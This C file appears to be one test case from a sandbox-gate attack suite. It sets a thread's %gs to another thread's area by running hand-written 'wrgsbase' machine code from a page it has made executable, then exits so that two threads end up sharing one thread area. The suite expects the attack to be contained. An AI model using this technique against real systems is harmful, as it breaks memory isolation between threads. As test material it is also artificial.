/* attack
class: gate
aim: memory
tries: ending oneself in the name of another thread, whose place then two have
expect: { none: contained, mpk: contained }
source: cerberus
*/
/* The gate takes the thread area that %gs names, if nobody is in it. A thread that sets %gs to another's and ends there gives back an area that its
   owner goes on using; the next new thread gets it too, signal stack and all. Unguarded only that %gs can be set counts. */
#include "attack.h"
#include <asm/prctl.h>
#include <pthread.h>
static uintptr_t gs_now(void) {
    uintptr_t base = 0;
    __asm__ volatile("rdgsbase %0" : "=r"(base));
    return base;
}
static void set_gs(uintptr_t base) {
    static const unsigned char sets[] = {0xf3, 0x48, 0x0f, 0xae, 0xdf, 0xc3}; /* wrgsbase %rdi; ret */
    void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(page, sets, sizeof sets);
    if (mprotect(page, 4096, PROT_READ | PROT_EXEC)) return;
    ((void (*)(uintptr_t))page)(base);
}
static volatile uintptr_t owner_slot, next_slot;
static volatile int done;
static void *owns(void *unused) {
    owner_slot = gs_now();
    while (!done) {} /* in the application all the time */
    return unused;
}
static void *impostor(void *unused) {
    (void)unused;
    set_gs(owner_slot);
    syscall(SYS_exit, 0);
    return NULL;
}
static void *next(void *unused) {
    next_slot = gs_now();
    return unused;
}
static int two_have_it(void) {
    pthread_t owner, other;
    pthread_create(&owner, NULL, owns, NULL);
    while (!owner_slot) sched_yield();
    pthread_create(&other, NULL, impostor, NULL);
    usleep(300000);
    for (int i = 0; i < 4 && next_slot != owner_slot; i++) {
        next_slot = 0;
        pthread_create(&other, NULL, next, NULL);
        for (int k = 0; k < 300 && !next_slot; k++) usleep(1000);
    }
    return next_slot == owner_slot && owner_slot != 0;
}
int main(void) {
    struct target t[64];
    read_targets(t, 64);
    unsigned long has = 0;
    if (t[0].own) {
        if (sigsetjmp(after_fault, 1)) not_here("this kernel does not let programs set their %gs");
        signal(SIGILL, leave_fault);
        set_gs(t[0].from);
        has = gs_now() == t[0].from;
        set_gs(0);
        verdict(has != 0);
    }
    verdict(in_child(two_have_it));
}
